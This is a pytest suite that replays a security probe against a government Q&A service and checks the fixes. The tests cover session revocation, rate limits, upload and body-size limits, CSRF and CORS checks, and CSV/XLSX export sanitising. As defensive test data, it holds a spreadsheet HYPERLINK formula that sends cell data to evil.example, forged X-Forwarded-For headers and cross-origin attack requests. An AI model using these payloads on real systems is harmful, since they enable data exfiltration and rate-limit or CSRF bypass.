"""The outside probe of 2026-12-04 (issue 21), attack by attack, through the public interfaces: HTTP through the
test client or a real `govqa serve` on 127.0.0.1, the command line in its own process. Each test runs the attack
as the tester did (bounded loops, loopback only) and states what must happen instead.

The apps here have an empty index unless a test says otherwise, so no model is loaded; `/api/ask` and the hotline
console then answer 503 (not indexed) to whoever gets past the checks, which is what several tests look for.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook

from assistant.demand_log import DemandLog
from assistant.service import Assistant
from assistant.settings import SAMPLE_KB
from indexing.index import KnowledgeIndex
from knowledge.loaders import load_file, load_knowledge_base
from ui.app import create_app
from ui.auth import Accounts
from ui.cli import main

REPO = Path(__file__).resolve().parent.parent
EDITOR = ("ed", "editor-pass-1")
AGENT = ("op", "agent-pass-1")


def make_app(root: Path, settings, embedder=None, indexed: bool = False):
    """An app over its own copy of the sample knowledge base, with an editor and an agent in `root/users.json`."""
    kb = root / "kb"
    shutil.copytree(SAMPLE_KB, kb)
    cfg = dataclasses.replace(settings, data_dir=root / "data", kb_dir=kb)
    accounts = Accounts(root / "users.json")
    accounts.add(EDITOR[0], "editor", EDITOR[1])
    accounts.add(AGENT[0], "agent", AGENT[1])
    index = KnowledgeIndex(cfg.data_dir, cfg.embedding_model, embedder=embedder)
    if indexed:
        index.index(load_knowledge_base(kb).records)
    return create_app(cfg, Assistant(index, DemandLog(cfg.data_dir / "demand.sqlite")), accounts)


@pytest.fixture()
def make(tmp_path, settings, monkeypatch):
    """An app created after the given environment is set, as an operator would set it."""

    def build(**env: str):
        for name, value in env.items():
            monkeypatch.setenv(name, value)
        return make_app(tmp_path, settings)

    return build


def login(client: TestClient, who: tuple[str, str]) -> TestClient:
    response = client.post("/api/login", json={"username": who[0], "password": who[1]})
    assert response.status_code == 200, response.text
    return client


def govqa(*args: str, env: dict[str, str], stdin: str = "") -> subprocess.CompletedProcess:
    """The `govqa` command in its own process."""
    return subprocess.run([sys.executable, "-m", "ui.cli", *args], input=stdin, capture_output=True, text=True,
                          env={**os.environ, **env}, cwd=REPO, timeout=300)


# ---- 1. staff sessions outlive the account ------------------------------------------------------
def test_removing_demoting_or_resetting_an_account_ends_its_sessions_at_once(tmp_path, settings):
    app = make_app(tmp_path, settings)
    users = tmp_path / "users.json"
    accounts = Accounts(users)
    accounts.add("ag2", "agent", "agent-pass-2")
    accounts.add("ed2", "editor", "editor-pass-2")
    accounts.add("pw2", "agent", "agent-pass-3")
    agent, editor, other = (login(TestClient(app), who) for who in
                            (("ag2", "agent-pass-2"), ("ed2", "editor-pass-2"), ("pw2", "agent-pass-3")))
    assert agent.post("/api/agent/ask", json={"question": "护照"}).status_code == 503   # in (the index is empty)
    assert editor.get("/api/editor/records").status_code == 200
    env = {"GOVQA_USERS_FILE": str(users), "GOVQA_DATA_DIR": str(tmp_path / "data")}

    assert govqa("users", "remove", "ag2", env=env).returncode == 0
    assert agent.post("/api/agent/ask", json={"question": "护照"}).status_code == 401
    assert agent.get("/api/me").status_code == 401

    assert govqa("users", "add", "ed2", "--role", "agent", env=env, stdin="a-new-password\n").returncode == 0
    assert editor.get("/api/editor/records").status_code == 401                 # demoted: the session is over
    assert editor.post("/api/agent/ask", json={"question": "护照"}).status_code == 401
    again = login(TestClient(app), ("ed2", "a-new-password"))
    assert again.get("/api/me").json() == {"name": "ed2", "role": "agent"}
    assert again.get("/api/editor/records").status_code == 403

    assert govqa("users", "add", "pw2", "--role", "agent", env=env, stdin="changed-password\n").returncode == 0
    assert other.get("/api/me").status_code == 401                             # same role, new password
    assert TestClient(app).post("/api/login", json={"username": "pw2", "password": "agent-pass-3"}).status_code == 401


# ---- 2. rate limits bypassed with X-Forwarded-For ------------------------------------------------
def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _post(url: str, body: dict, headers: dict[str, str] | None = None) -> int:
    request = urllib.request.Request(url, data=json.dumps(body).encode(), method="POST",
                                     headers={"Content-Type": "application/json", **(headers or {})})
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status
    except urllib.error.HTTPError as exc:
        return exc.code


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """`govqa serve` in its own process on a free loopback port, with the default limits, proxy settings none."""
    root = tmp_path_factory.mktemp("served")
    shutil.copytree(SAMPLE_KB, root / "kb")
    Accounts(root / "users.json").add(EDITOR[0], "editor", EDITOR[1])
    port = _free_port()
    env = {**os.environ, "GOVQA_DATA_DIR": str(root / "data"), "GOVQA_KB_DIR": str(root / "kb"),
           "GOVQA_USERS_FILE": str(root / "users.json"), "GOVQA_RATE_LIMIT": "5/minute",
           "GOVQA_LOGIN_RATE_LIMIT": "5/minute", "GOVQA_RATE_LIMIT_EXEMPT": ""}
    env.pop("FORWARDED_ALLOW_IPS", None)
    env.pop("GOVQA_TRUSTED_PROXIES", None)
    server = subprocess.Popen([sys.executable, "-m", "ui.cli", "serve", "--host", "127.0.0.1", "--port", str(port)],
                              env=env, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    url = f"http://127.0.0.1:{port}"
    deadline = time.time() + 120
    while time.time() < deadline:
        try:
            with urllib.request.urlopen(url + "/api/health", timeout=2):
                break
        except OSError:
            time.sleep(0.3)
    else:
        server.kill()
        pytest.fail("govqa serve did not start")
    yield url
    server.terminate()
    server.wait(timeout=30)


def test_forged_forwarded_addresses_do_not_reset_the_limits_of_a_real_server(served):
    statuses = [_post(served + "/api/login", {"username": EDITOR[0], "password": f"guess-{n}"},
                      {"X-Forwarded-For": f"203.0.113.{n}"}) for n in range(40)]
    assert statuses[:5] == [401] * 5 and statuses.count(429) >= 34, statuses     # one guess in 12 s may refill
    right = _post(served + "/api/login", {"username": EDITOR[0], "password": EDITOR[1]},
                  {"X-Forwarded-For": "198.51.100.250"})
    assert right == 429                                       # the right password waits like any other guess
    asks = [_post(served + "/api/ask", {"question": "护照"}, {"X-Forwarded-For": f"198.51.100.{n}", "X-Real-IP": "1.2.3.4",
                                                            "Forwarded": f"for=192.0.2.{n}"}) for n in range(10)]
    assert asks.count(503) == 5 and asks.count(429) == 5, asks


def test_forwarded_addresses_count_only_from_configured_proxies(make):
    app = make(GOVQA_TRUSTED_PROXIES="10.0.0.0/8, 192.0.2.7", GOVQA_LOGIN_RATE_LIMIT="2/minute")
    proxy = TestClient(app, client=("10.1.2.3", 40000))
    guess = {"username": EDITOR[0], "password": "guess"}

    def attempts(client: TestClient, forwarded: str, n: int = 3) -> list[int]:
        return [client.post("/api/login", json=guess, headers={"X-Forwarded-For": forwarded}).status_code
                for _ in range(n)]

    assert attempts(proxy, "198.51.100.1") == [401, 401, 429]           # each citizen behind the proxy counts …
    assert attempts(proxy, "198.51.100.2") == [401, 401, 429]           # … on their own
    assert attempts(proxy, "203.0.113.9, 198.51.100.1", 1) == [429]      # only the address the proxy saw counts
    stranger = TestClient(app, client=("203.0.113.50", 40000))           # not a proxy: its header is ignored
    assert attempts(stranger, "198.51.100.3") + attempts(stranger, "198.51.100.4", 1) == [401, 401, 429, 429]


# ---- 3. unauthenticated uploads of any size; 4. no size limit on the chat -------------------------
def test_the_chat_takes_no_uploads(make):
    client = TestClient(make())
    upload = client.post("/gradio_api/upload", files={"files": ("a.bin", b"\0" * 4096)})
    assert upload.status_code == 404 and "/tmp" not in upload.text and "不接收" in upload.json()["error"]
    assert client.post("/gradio_api/process_recording", files={"video": ("a.mp4", b"\0" * 64)}).status_code == 404


@pytest.mark.parametrize("method, path", [
    ("POST", "/gradio_api/queue/join"), ("POST", "/gradio_api/run/respond"),
    ("POST", "/gradio_api/call/respond"), ("POST", "/gradio_api/component_server"), ("POST", "/login"),
    ("POST", "/anything/else"), ("PUT", "/api/editor/records/g-passport"), ("POST", "/api/ask")])
def test_no_route_takes_a_body_over_the_limit(make, method, path):
    client = TestClient(make(GOVQA_MAX_BODY_BYTES="65536"))
    sized = client.request(method, path, content=b"x" * 65537, headers={"Content-Type": "application/json"})
    assert sized.status_code == 413 and "请求内容太大" in sized.json()["error"]
    chunked = client.request(method, path, content=(b"x" * 8192 for _ in range(9)),
                             headers={"Content-Type": "application/json"})
    assert chunked.status_code == 413


def test_every_route_that_takes_a_body_is_rate_limited(make):
    client = TestClient(make(GOVQA_RATE_LIMIT="3/minute", GOVQA_WRITE_RATE_LIMIT="4/minute"))
    uploads = [client.post("/gradio_api/upload", files={"files": ("a.bin", b"x")}).status_code for _ in range(5)]
    assert uploads[-2:] == [429, 429]
    login(client, EDITOR)                                                  # the login has its own limit
    writes = [client.post("/api/logout").status_code for _ in range(5)]
    assert writes[:4] == [200] * 4 and writes[4] == 429
    assert client.get("/api/health").status_code == 200                    # reading is not limited


def _chat(client: TestClient, question: str, session: str) -> tuple[int, str]:
    """One question through the chat's Gradio queue, as the page sends it; the status and the whole stream."""
    joined = client.post("/gradio_api/queue/join", json={"data": [question, [], None, {}], "fn_index": 0,
                                                        "session_hash": session, "event_data": None,
                                                        "trigger_id": None})
    if joined.status_code != 200:
        return joined.status_code, joined.text
    stream = ""
    with client.stream("GET", "/gradio_api/queue/data", params={"session_hash": session}) as response:
        for line in response.iter_lines():
            stream += line + "\n"
            if "process_completed" in line:
                break
    return 200, stream


@pytest.mark.filterwarnings("ignore::Warning:gradio.queueing")          # pandas 3 notes
def test_a_huge_chat_question_is_refused_and_not_echoed(make):
    with TestClient(make()) as client:
        big = client.post("/gradio_api/queue/join", content=b'{"data": ["' + b"x" * 50_000_000 + b'"]}',
                          headers={"Content-Type": "application/json"})
        assert big.status_code == 413
        status, stream = _chat(client, "办" * 20_000, "probe4")
    assert status == 200 and len(stream) < 5_000 and "问题太长" in stream


# ---- 5. formula injection in the demand export -------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")'


def test_exported_cells_never_start_a_formula(tmp_path):
    messages = tmp_path / "messages.jsonl"
    rows = [{"subject": f"{FORMULA}幸福小区噪音扰民{n}", "body": "+1 夜间施工噪音", "time": f"2026-11-0{n + 1} 10:00",
             "likes": 1} for n in range(4)]
    rows += [{"subject": f"@SUM(1+1)幸福小区噪音扰民{n}", "body": "-2", "time": f"2026-11-0{n + 1} 11:00"} for n in range(2)]
    rows += [{"subject": f"\t-1+1 幸福小区噪音扰民{n}", "body": "\r=1+1", "time": f"2026-11-0{n + 1} 12:00"} for n in range(2)]
    messages.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows), encoding="utf-8")
    env = {"GOVQA_DATA_DIR": str(tmp_path / "data")}
    mined = govqa("demand", "topics", "--input", str(messages), "--lexical", "--json", env=env)
    assert mined.returncode == 0, mined.stderr
    assert any("HYPERLINK" in e for t in json.loads(mined.stdout)["topics"] for e in t["examples"])
    for name in ("topics.xlsx", "topics.csv"):
        assert govqa("demand", "export", "--out", str(tmp_path / name), env=env).returncode == 0
    book = load_workbook(tmp_path / "topics.xlsx")
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [str(c.value) for c in cells if isinstance(c.value, str)]
    assert any("HYPERLINK" in t for t in texts)                            # the text is kept, as text
    with open(tmp_path / "topics.csv", encoding="utf-8-sig", newline="") as fh:
        fields = [f for row in csv.reader(fh) for f in row]
    assert any("HYPERLINK" in f for f in fields)
    for text in [*texts, *fields]:
        assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), text


# ---- 6. one large editor save stalls every citizen -----------------------------------------------
def test_a_field_over_the_limit_is_refused_with_its_name(make):
    editor = login(TestClient(make()), EDITOR)
    opened = editor.get("/api/editor/records/g-passport").json()
    fields = {**opened["record"], "说明": "备注" * 50_000}
    saved = editor.put("/api/editor/records/g-passport", json={"kind": "guide", "fields": fields,
                                                              "base_hash": opened["hash"]})
    assert saved.status_code == 422
    assert saved.json()["problems"] == [{"field": "说明", "message": "太长（最多 20000 个字，现有 100000 个）"}]


@pytest.mark.slow
def test_questions_are_answered_while_an_editor_save_is_being_embedded(tmp_path, settings, embedder, monkeypatch):
    app = make_app(tmp_path, settings, embedder, indexed=True)
    backend = app.state.backend
    citizen, editor = TestClient(app), login(TestClient(app), EDITOR)
    assert citizen.post("/api/ask", json={"question": "办护照要多少钱"}).status_code == 200   # warm
    embedding = threading.Event()
    real = backend.index.embedder.embed_passages

    def slow_model(texts, *args, **kwargs):          # a big note on a busy machine: the model takes seconds
        embedding.set()
        time.sleep(4)
        return real(texts, *args, **kwargs)

    monkeypatch.setattr(backend.index.embedder, "embed_passages", slow_model)
    opened = editor.get("/api/editor/records/g-passport").json()
    fields = {**opened["record"], "说明": "护照办理须知。" * 2_000}
    saved: dict = {}

    def save() -> None:
        started = time.perf_counter()
        saved["response"] = editor.put("/api/editor/records/g-passport",
                                       json={"kind": "guide", "fields": fields, "base_hash": opened["hash"]})
        saved["seconds"] = time.perf_counter() - started

    writer = threading.Thread(target=save)
    writer.start()
    assert embedding.wait(30)
    started = time.perf_counter()
    answer = citizen.post("/api/ask", json={"question": "办护照要带什么材料"})
    waited = time.perf_counter() - started
    writer.join()
    assert answer.status_code == 200 and answer.json()["citations"][0]["record_id"] == "g-passport"
    assert saved["response"].status_code == 200 and saved["seconds"] >= 4
    assert waited < 2.0, f"the question waited {waited:.1f} s for the save"
    after = citizen.post("/api/ask", json={"question": "办护照要带什么材料"}).json()
    assert after["citations"][0]["record_id"] == "g-passport"


# ---- 7. CSRF from the same site; 8. any website can test staff passwords ------------------------------
def test_state_changing_staff_requests_from_another_origin_are_refused(make, monkeypatch):
    app = make()
    kb = Path(app.state.backend.settings.kb_dir)
    editor = login(TestClient(app), EDITOR)
    faq = load_file(kb / "faqs" / "police.csv").records[0].id
    assert editor.delete(f"/api/editor/records/{faq}").status_code == 200   # versions: 1 as it was, 2 removed
    monkeypatch.setenv("GOVQA_KB_DIR", str(kb))
    assert main(["kb", "restore", faq, "1", "--author", "ed"]) == 0           # version 3: back again
    restore = f"/api/editor/records/{faq}/history/2/restore"                  # … would remove it once more
    attacks = [{"Origin": "http://testserver:8081"},                          # another port of the same host
               {"Origin": "http://evil.testserver"},                          # a sibling subdomain
               {"Origin": "null"},
               {"Referer": "http://127.0.0.1:8081/evil.html"}]                # no Origin, a foreign Referer
    for headers in attacks:
        forged = editor.post(restore, content=b"x=1", headers={**headers, "Content-Type": "text/plain"})
        assert forged.status_code == 403 and "来源" in forged.json()["error"], headers
    assert faq in {r.id for r in load_file(kb / "faqs" / "police.csv").records}
    assert editor.post("/api/logout", headers={"Origin": "http://testserver:8081"}).status_code == 403
    assert editor.get("/api/me").status_code == 200                            # still logged in
    assert editor.post(restore, headers={"Origin": "http://testserver"}).status_code == 200   # the console itself


def test_login_and_staff_endpoints_answer_only_this_origin(make):
    client = TestClient(make())
    evil = {"Origin": "https://evil.example"}
    guess = client.post("/api/login", json={"username": EDITOR[0], "password": EDITOR[1]}, headers=evil)
    assert guess.status_code == 403 and "access-control-allow-origin" not in guess.headers
    assert "govqa_session" not in guess.cookies
    for path in ("/api/login", "/api/editor/records", "/api/agent/ask", "/gradio_api/queue/join"):
        preflight = client.options(path, headers={**evil, "Access-Control-Request-Method": "POST",
                                                  "Access-Control-Request-Headers": "content-type"})
        assert "access-control-allow-origin" not in preflight.headers, path
    login(client, EDITOR)
    read = client.get("/api/editor/records", headers=evil)
    assert "access-control-allow-origin" not in read.headers
    for path in ("/api/ask", "/api/feedback"):                                 # the widget's calls stay open
        preflight = client.options(path, headers={**evil, "Access-Control-Request-Method": "POST",
                                                  "Access-Control-Request-Headers": "content-type"})
        assert preflight.headers["access-control-allow-origin"] == "*", path
    assert client.post("/api/ask", json={"question": "护照"}, headers=evil).headers["access-control-allow-origin"] == "*"
    assert client.get("/widget.js", headers=evil).headers["access-control-allow-origin"] == "*"
    assert client.get("/api/records/g-passport", headers=evil).headers["access-control-allow-origin"] == "*"


# ---- 10. kb add: duplicate ids and merged cells; PUT without base_hash -----------------------------
def _faq_rows(*ids: str) -> list[list[str]]:
    return [["id", "问题", "答案", "关联事项", "更新日期"]] + [
        [rid, f"问题{n}怎么办？", f"答案{n}。", "g-passport", "2026-01-01"] for n, rid in enumerate(ids)]


def test_kb_add_refuses_a_file_holding_one_id_twice(tmp_path, kb_copy):
    table = tmp_path / "faq-dup.csv"
    with open(table, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(_faq_rows("faq-x", "faq-y", "faq-x"))
    env = {"GOVQA_KB_DIR": str(kb_copy), "GOVQA_DATA_DIR": str(tmp_path / "data")}
    added = govqa("kb", "add", str(table), env=env)
    assert added.returncode == 1 and "第4行" in added.stderr and "faq-x" in added.stderr and "第2行" in added.stderr
    assert not (kb_copy / "faqs" / "faq-dup.csv").exists()
    assert govqa("kb", "validate", env=env).returncode == 0


def test_kb_add_refuses_merged_cells(tmp_path, kb_copy):
    book = Workbook()
    sheet = book.active
    for row in _faq_rows("faq-m1", "faq-m2", "faq-m3"):
        sheet.append(row)
    sheet.merge_cells("C2:C4")                       # one answer typed once for three questions
    book.save(tmp_path / "faq-merged.xlsx")
    env = {"GOVQA_KB_DIR": str(kb_copy), "GOVQA_DATA_DIR": str(tmp_path / "data")}
    added = govqa("kb", "add", str(tmp_path / "faq-merged.xlsx"), env=env)
    assert added.returncode == 1, added.stdout
    assert "C2:C4" in added.stderr and "第3行" in added.stderr and "第4行" in added.stderr and "合并" in added.stderr
    assert not (kb_copy / "faqs" / "faq-merged.xlsx").exists()


def test_an_edit_without_base_hash_is_refused(make):
    app = make()
    editor = login(TestClient(app), EDITOR)
    opened = editor.get("/api/editor/records/g-passport").json()
    path = Path(app.state.backend.settings.kb_dir) / opened["source"]
    before = path.read_bytes()
    fields = {**opened["record"], "收费标准": "免费"}
    response = editor.put("/api/editor/records/g-passport", json={"kind": "guide", "fields": fields})
    assert response.status_code == 422
    assert response.json()["problems"][0]["field"] == "base_hash" and "打开" in response.json()["problems"][0]["message"]
    assert path.read_bytes() == before


# ---- 11. the smaller findings --------------------------------------------------------------------------
def test_api_docs_work_without_the_internet(make):
    client = TestClient(make())
    page = client.get("/api/docs")
    assert page.status_code == 200 and "swagger" in page.text.lower()
    assert "http://" not in page.text and "https://" not in page.text and "//cdn" not in page.text
    csp = page.headers["content-security-policy"]
    assert "script-src 'self'" in csp
    for asset, kind in (("swagger-ui-bundle.js", "javascript"), ("swagger-ui.css", "text/css")):
        assert f'"/api/docs/{asset}"' in page.text
        fetched = client.get(f"/api/docs/{asset}")
        assert fetched.status_code == 200 and kind in fetched.headers["content-type"] and len(fetched.content) > 10_000


@pytest.mark.parametrize("body, field", [
    (b'{"question": "\xff\xfe"}', ""),                                # not UTF-8: was "There was an error parsing the body"
    (b'{"question": 12}', "question"),
    (b'{"question": "\\u62a4\\u7167", "channel": ["api"]}', "channel"),
])
def test_request_errors_are_in_chinese_and_name_the_field(make, body, field):
    response = TestClient(make()).post("/api/ask", content=body, headers={"Content-Type": "application/json"})
    assert response.status_code in (400, 422)
    data = response.json()
    assert re.search(r"[\u4e00-\u9fff]", data["error"]) and not re.search(r"[A-Za-z]{3,} [A-Za-z]{2,}", data["error"]), data
    if field:
        assert data["problems"][0]["field"] == field


def test_kb_add_explains_a_wrong_cell_in_chinese(tmp_path, kb_copy):
    book = Workbook()
    for row in _faq_rows("faq-n1"):
        book.active.append(row)
    book.active["C2"] = 12345                                    # a number where the answer's text goes
    book.save(tmp_path / "faq-number.xlsx")
    added = govqa("kb", "add", str(tmp_path / "faq-number.xlsx"),
                  env={"GOVQA_KB_DIR": str(kb_copy), "GOVQA_DATA_DIR": str(tmp_path / "data")})
    assert added.returncode == 1 and "答案" in added.stderr and "应为文字" in added.stderr
    assert "Input should" not in added.stderr


def test_editor_search_looks_at_field_values_only(make):
    editor = login(TestClient(make()), EDITOR)
    for query in ("source", "事项名称", "kind", "guides/"):
        assert editor.get("/api/editor/records", params={"q": query}).json()["records"] == [], query
    found = [r["id"] for r in editor.get("/api/editor/records", params={"q": "普通护照"}).json()["records"]]
    assert "g-passport" in found
    assert "g-passport" in [r["id"] for r in editor.get("/api/editor/records", params={"q": "g-passport"}).json()["records"]]


def test_saved_files_keep_their_mode(tmp_path, kb_copy):
    table = kb_copy / "faqs" / "police.csv"
    table.chmod(0o644)
    env = {"GOVQA_KB_DIR": str(kb_copy), "GOVQA_DATA_DIR": str(tmp_path / "data")}
    first = load_file(table).records[0].id
    assert govqa("kb", "remove", first, env=env).returncode == 0
    assert table.stat().st_mode & 0o777 == 0o644
    new = tmp_path / "faq-mode.csv"
    with open(new, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(_faq_rows("faq-mode"))
    assert govqa("kb", "add", str(new), env=env).returncode == 0
    umask = os.umask(0)
    os.umask(umask)
    assert (kb_copy / "faqs" / "faq-mode.csv").stat().st_mode & 0o777 == 0o666 & ~umask


def test_head_requests_are_answered(make):
    client = TestClient(make())
    for path in ("/widget.js", "/login", "/records/g-passport", "/api/health"):
        head = client.head(path)
        assert head.status_code == 200 and head.content == b"", path
    assert client.head("/widget.js").headers["content-type"].startswith("text/javascript")
